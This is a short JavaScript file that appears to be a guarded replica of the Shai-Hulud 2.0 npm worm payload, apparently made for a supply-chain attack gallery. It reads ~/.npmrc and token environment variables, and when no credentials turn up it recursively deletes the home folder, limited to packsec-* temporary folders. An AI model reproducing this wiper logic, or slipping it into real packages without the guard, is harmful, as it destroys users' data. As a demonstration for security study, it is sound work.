// Shai-Hulud 2.0 (replica of bun_environment.js, the payload): look for npm and GitHub credentials; with
// none to steal or spread with, destroy the user's home folder, as the original's fallback did.
// Replica's guard: it only ever deletes a home folder made by the attack gallery (a temporary folder).
const fs = require('fs');
const os = require('os');

const guard = (f, fallback) => { try { return f(); } catch (e) { return fallback; } };
const home = guard(() => os.homedir(), process.env.HOME || '');
const npmrc = guard(() => fs.readFileSync(home + '/.npmrc', 'utf8'), '');
const credentials = process.env.NPM_TOKEN || process.env.GITHUB_TOKEN || /_authToken=/.test(npmrc);
if (credentials) {
  // The original harvested them and spread; see the shai-hulud replica for that half.
} else if (/\/packsec-[^/]*$|\/packsec-attacks-/.test(home)) {
  fs.rmSync(home, { recursive: true, force: true });
}
